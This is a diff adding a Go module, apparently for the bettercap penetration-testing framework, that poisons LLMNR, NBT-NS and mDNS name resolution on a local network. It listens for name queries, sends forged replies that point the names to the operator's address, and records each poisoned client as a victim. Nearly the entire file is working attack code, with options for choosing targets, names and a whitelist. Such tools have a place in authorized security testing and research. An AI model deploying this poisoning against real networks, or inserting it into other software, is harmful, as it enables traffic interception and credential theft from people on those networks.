@@ -0,0 +1,462 @@
+package name_spoof
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/gobwas/glob"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/str"
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	ProtoLLMNR = "llmnr"
+	ProtoNBNS  = "nbns"
+	ProtoMDNS  = "mdns"
+
+	// mDNS answers must have the cache flush bit set
+	mdnsClassCacheFlush = layers.DNSClass(0x8001)
+)
+
+type NameSpoofer struct {
+	session.SessionModule
+	Handle        *pcap.Handle
+	address       net.IP
+	address6      net.IP
+	ttl           uint32
+	protocols     map[string]bool
+	names         []glob.Glob
+	ignore        []glob.Glob
+	addresses     []net.IP
+	macs          []net.HardwareAddr
+	wAddresses    []net.IP
+	wMacs         []net.HardwareAddr
+	victims       map[string]*Victim
+	victimsLock   *sync.Mutex
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewNameSpoofer(s *session.Session) *NameSpoofer {
+	mod := &NameSpoofer{
+		SessionModule: session.NewSessionModule("name.spoof", s),
+		Handle:        nil,
+		protocols:     make(map[string]bool),
+		victims:       make(map[string]*Victim),
+		victimsLock:   &sync.Mutex{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.State.Store("victims", []*Victim{})
+
+	mod.SessionModule.Requires("net.recon")
+
+	mod.AddParam(session.NewStringParameter("name.spoof.protocols",
+		"llmnr,nbns,mdns",
+		"",
+		"Comma separated list of protocols to answer queries for, supported values are llmnr, nbns and mdns."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.names",
+		"",
+		"",
+		"Comma separated list of names to answer queries for, wildcards are supported. If empty every name will be answered."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.ignore",
+		"",
+		"",
+		"Comma separated list of names to never answer queries for, wildcards are supported."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.targets",
+		"",
+		"",
+		"Comma separated list of IP addresses, MAC addresses or aliases of the clients to poison, also supports nmap style IP ranges. If empty every client will be poisoned."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.whitelist",
+		"",
+		"",
+		"Comma separated list of IP addresses, MAC addresses or aliases of the clients to never poison."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"IP address to map the names to."))
+
+	mod.AddParam(session.NewStringParameter("name.spoof.address6",
+		session.ParamIfaceAddress6,
+		"",
+		"IPv6 address to map the names to for AAAA queries, if empty AAAA queries won't be answered."))
+
+	mod.AddParam(session.NewIntParameter("name.spoof.ttl",
+		"30",
+		"TTL of the spoofed answers."))
+
+	mod.AddHandler(session.NewModuleHandler("name.spoof on", "",
+		"Start answering LLMNR, NBT-NS and mDNS name queries.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("name.spoof off", "",
+		"Stop answering LLMNR, NBT-NS and mDNS name queries.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("name.spoof.victims", "",
+		"Show the clients that have been poisoned and the names they queried.",
+		func(args []string) error {
+			return mod.showVictims()
+		}))
+
+	return mod
+}
+
+func (mod NameSpoofer) Name() string {
+	return "name.spoof"
+}
+
+func (mod NameSpoofer) Description() string {
+	return "Replies to LLMNR, NBT-NS and mDNS name queries with spoofed responses."
+}
+
+func (mod NameSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func compileNames(list string) ([]glob.Glob, error) {
+	globs := make([]glob.Glob, 0)
+	for _, name := range str.Comma(list) {
+		if g, err := glob.Compile(strings.ToLower(name)); err != nil {
+			return nil, fmt.Errorf("'%s' is not a valid name: %v", name, err)
+		} else {
+			globs = append(globs, g)
+		}
+	}
+	return globs, nil
+}
+
+func (mod *NameSpoofer) parseTargets(targets string) ([]net.IP, []net.HardwareAddr, error) {
+	addresses := make([]net.IP, 0)
+	others := make([]string, 0)
+	// IPv6 addresses are not supported by ParseTargets
+	for _, target := range strings.Split(targets, ",") {
+		if ip := net.ParseIP(strings.TrimSpace(target)); ip != nil && ip.To4() == nil {
+			addresses = append(addresses, ip)
+		} else {
+			others = append(others, target)
+		}
+	}
+
+	ips, macs, err := network.ParseTargets(strings.Join(others, ","), mod.Session.Lan.Aliases())
+	if err != nil {
+		return nil, nil, err
+	}
+
+	return append(addresses, ips...), macs, nil
+}
+
+func (mod *NameSpoofer) Configure() error {
+	var err error
+	var protocols string
+	var names string
+	var ignore string
+	var targets string
+	var whitelist string
+	var ttl int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, protocols = mod.StringParam("name.spoof.protocols"); err != nil {
+		return err
+	} else if err, names = mod.StringParam("name.spoof.names"); err != nil {
+		return err
+	} else if err, ignore = mod.StringParam("name.spoof.ignore"); err != nil {
+		return err
+	} else if err, targets = mod.StringParam("name.spoof.targets"); err != nil {
+		return err
+	} else if err, whitelist = mod.StringParam("name.spoof.whitelist"); err != nil {
+		return err
+	} else if err, mod.address = mod.IPParam("name.spoof.address"); err != nil {
+		return err
+	} else if err, mod.address6 = mod.IPParam("name.spoof.address6"); err != nil {
+		return err
+	} else if err, ttl = mod.IntParam("name.spoof.ttl"); err != nil {
+		return err
+	} else if mod.names, err = compileNames(names); err != nil {
+		return err
+	} else if mod.ignore, err = compileNames(ignore); err != nil {
+		return err
+	} else if mod.addresses, mod.macs, err = mod.parseTargets(targets); err != nil {
+		return err
+	} else if mod.wAddresses, mod.wMacs, err = mod.parseTargets(whitelist); err != nil {
+		return err
+	}
+
+	if mod.address6 != nil && mod.address6.To4() != nil {
+		return fmt.Errorf("name.spoof.address6 is not an IPv6 address")
+	} else if ttl < 0 {
+		return fmt.Errorf("name.spoof.ttl can't be negative")
+	}
+	mod.ttl = uint32(ttl)
+
+	ports := []string{}
+	mod.protocols = make(map[string]bool)
+	for _, proto := range str.Comma(strings.ToLower(protocols)) {
+		switch proto {
+		case ProtoLLMNR:
+			ports = append(ports, fmt.Sprintf("dst port %d", packets.LLMNRPort))
+		case ProtoNBNS:
+			ports = append(ports, fmt.Sprintf("dst port %d", packets.NBNSPort))
+		case ProtoMDNS:
+			ports = append(ports, fmt.Sprintf("dst port %d", packets.MDNSPort))
+		default:
+			return fmt.Errorf("unsupported protocol '%s'", proto)
+		}
+		mod.protocols[proto] = true
+	}
+
+	if len(mod.protocols) == 0 {
+		return fmt.Errorf("name.spoof.protocols can't be empty")
+	}
+
+	if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
+		return err
+	} else if err = mod.Handle.SetBPFFilter(fmt.Sprintf("udp and (%s)", strings.Join(ports, " or "))); err != nil {
+		return err
+	}
+
+	return nil
+}
+
+func (mod *NameSpoofer) isTarget(ip net.IP, hw net.HardwareAddr) bool {
+	for _, wHW := range mod.wMacs {
+		if bytes.Equal(wHW, hw) {
+			return false
+		}
+	}
+	for _, wIP := range mod.wAddresses {
+		if wIP.Equal(ip) {
+			return false
+		}
+	}
+
+	if len(mod.addresses) == 0 && len(mod.macs) == 0 {
+		return true
+	}
+
+	for _, tHW := range mod.macs {
+		if bytes.Equal(tHW, hw) {
+			return true
+		}
+	}
+	for _, tIP := range mod.addresses {
+		if tIP.Equal(ip) {
+			return true
+		}
+	}
+
+	return false
+}
+
+func (mod *NameSpoofer) shouldAnswer(name string) bool {
+	name = strings.ToLower(name)
+	for _, g := range mod.ignore {
+		if g.Match(name) {
+			return false
+		}
+	}
+
+	if len(mod.names) == 0 {
+		return true
+	}
+
+	for _, g := range mod.names {
+		if g.Match(name) {
+			return true
+		}
+	}
+	return false
+}
+
+func (mod *NameSpoofer) reply(proto string, name string, eth *layers.Ethernet, udp *layers.UDP, srcIP net.IP, payload []byte) {
+	from := mod.Session.Interface.IP
+	if srcIP.To4() == nil {
+		if from = mod.Session.Interface.IPv6; from == nil {
+			mod.Debug("can't answer %s query from %s, no IPv6 address", proto, srcIP)
+			return
+		}
+	}
+
+	// answers are sent straight to the client, like legacy unicast
+	// mDNS responses
+	err, raw := packets.NewUDPPacket(from, mod.Session.Interface.HW, srcIP, eth.SrcMAC, int(udp.DstPort), int(udp.SrcPort), payload)
+	if err != nil {
+		mod.Error("error creating %s reply: %v", proto, err)
+		return
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending %s reply: %v", proto, err)
+		return
+	}
+
+	victim := mod.addVictim(proto, name, srcIP, eth.SrcMAC)
+	who := srcIP.String()
+	if victim.Hostname != "" {
+		who = fmt.Sprintf("%s (%s)", who, victim.Hostname)
+	}
+
+	mod.Info("sent spoofed %s reply for %s to %s.", proto, tui.Red(name), tui.Bold(who))
+
+	session.I.Events.Add("name.spoof.poisoned", Poisoning{
+		Protocol: proto,
+		Name:     name,
+		IP:       srcIP.String(),
+		MAC:      eth.SrcMAC.String(),
+		Hostname: victim.Hostname,
+	})
+}
+
+func (mod *NameSpoofer) onDNSQuery(proto string, eth *layers.Ethernet, udp *layers.UDP, srcIP net.IP) {
+	req := &layers.DNS{}
+	if err := req.DecodeFromBytes(udp.Payload, gopacket.NilDecodeFeedback); err != nil {
+		return
+	} else if req.QR || req.OpCode != layers.DNSOpCodeQuery || len(req.Questions) == 0 {
+		return
+	}
+
+	name := ""
+	questions := make([]layers.DNSQuestion, 0)
+	for _, q := range req.Questions {
+		qName := string(q.Name)
+		if proto == ProtoMDNS {
+			// only host names, not services
+			lower := strings.ToLower(qName)
+			if !strings.HasSuffix(lower, ".local") || strings.HasPrefix(lower, "_") {
+				continue
+			}
+			qName = qName[:len(qName)-len(".local")]
+		}
+
+		if !mod.shouldAnswer(qName) {
+			mod.Debug("skipping %s query for %s from %s", proto, qName, srcIP)
+			continue
+		}
+
+		name = qName
+		questions = append(questions, q)
+	}
+
+	if len(questions) == 0 {
+		return
+	}
+
+	class := layers.DNSClassIN
+	if proto == ProtoMDNS {
+		class = mdnsClassCacheFlush
+	}
+
+	filtered := *req
+	filtered.Questions = questions
+	filtered.QDCount = uint16(len(questions))
+
+	if err, payload := packets.NameQueryReply(&filtered, mod.address, mod.address6, mod.ttl, class); err != nil {
+		mod.Error("error creating %s reply: %v", proto, err)
+	} else if payload != nil {
+		mod.reply(proto, name, eth, udp, srcIP, payload)
+	}
+}
+
+func (mod *NameSpoofer) onNBNSQuery(eth *layers.Ethernet, udp *layers.UDP, srcIP net.IP) {
+	q, ok := packets.NBNSParseNameQuery(udp.Payload)
+	if !ok || srcIP.To4() == nil || mod.address == nil {
+		return
+	} else if !mod.shouldAnswer(q.Name) {
+		mod.Debug("skipping %s query for %s from %s", ProtoNBNS, q.Name, srcIP)
+		return
+	}
+
+	mod.reply(ProtoNBNS, q.Name, eth, udp, srcIP, packets.NBNSNameQueryResponse(q, mod.address, mod.ttl))
+}
+
+func (mod *NameSpoofer) onPacket(pkt gopacket.Packet) {
+	eth, ok := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	if !ok || bytes.Equal(eth.SrcMAC, mod.Session.Interface.HW) {
+		return
+	}
+
+	udp, ok := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
+	if !ok {
+		return
+	}
+
+	var srcIP net.IP
+	if ip4, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+		srcIP = ip4.SrcIP
+	} else if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok {
+		srcIP = ip6.SrcIP
+	} else {
+		return
+	}
+
+	if !mod.isTarget(srcIP, eth.SrcMAC) {
+		mod.Debug("skipping query from %s, not a target", srcIP)
+		return
+	}
+
+	switch {
+	case udp.DstPort == packets.LLMNRPort && mod.protocols[ProtoLLMNR]:
+		mod.onDNSQuery(ProtoLLMNR, eth, udp, srcIP)
+	case udp.DstPort == packets.MDNSPort && mod.protocols[ProtoMDNS]:
+		mod.onDNSQuery(ProtoMDNS, eth, udp, srcIP)
+	case udp.DstPort == packets.NBNSPort && mod.protocols[ProtoNBNS]:
+		mod.onNBNSQuery(eth, udp, srcIP)
+	}
+}
+
+func (mod *NameSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		protocols := make([]string, 0, len(mod.protocols))
+		for _, proto := range []string{ProtoLLMNR, ProtoNBNS, ProtoMDNS} {
+			if mod.protocols[proto] {
+				protocols = append(protocols, proto)
+			}
+		}
+		mod.Info("answering %s queries with %s", strings.Join(protocols, ", "), mod.address)
+
+		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+func (mod *NameSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.Handle.Close()
+		mod.waitGroup.Wait()
+	})
+}